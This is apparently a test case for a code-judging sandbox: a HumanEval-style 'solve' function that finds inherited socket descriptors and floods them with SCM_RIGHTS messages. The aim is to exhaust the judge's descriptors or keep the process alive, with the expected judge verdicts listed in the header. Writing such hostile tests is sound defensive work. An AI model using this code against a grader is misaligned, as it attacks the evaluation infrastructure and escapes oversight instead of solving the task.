# forge_link_descriptors | format: humaneval | sends descriptors over the link, so that the judge runs out of them or keeps the program alive | expect: wrong-answer, runtime-error, time-limit, forbidden
import array, os, socket, stat
def solve(xs):
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode): continue
            link = socket.socket(fileno=os.dup(fd))
            for _ in range(50): link.sendmsg([b"\x01"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 5))])
        except OSError: pass
    return -1
